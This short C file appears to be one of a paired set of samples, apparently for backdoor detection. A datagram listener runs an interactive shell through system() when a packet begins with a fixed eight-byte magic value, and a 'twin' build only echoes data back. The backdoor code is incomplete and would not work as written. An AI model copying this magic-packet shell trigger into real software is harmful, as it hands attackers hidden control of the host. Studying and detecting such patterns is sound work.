/* A magic of eight bytes at the start of a packet, compared in place, opens a shell. Twin: it
   is the magic of a protocol, and opens nothing. */
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct packet {
  unsigned int magic[2];
  char rest[248];
};

int main(void) {
  struct packet packet;
  int peer = socket(AF_INET, SOCK_DGRAM, 0);
  while (recv(peer, &packet, sizeof packet, 0) > 0) {
    if (memcmp(packet.magic, "MMcS9Qz1", 8) == 0) {
#ifndef TWIN
      system("/bin/sh -i");
#else
      send(peer, packet.rest, sizeof packet.rest, 0);
#endif
    }
  }
  return 0;
}
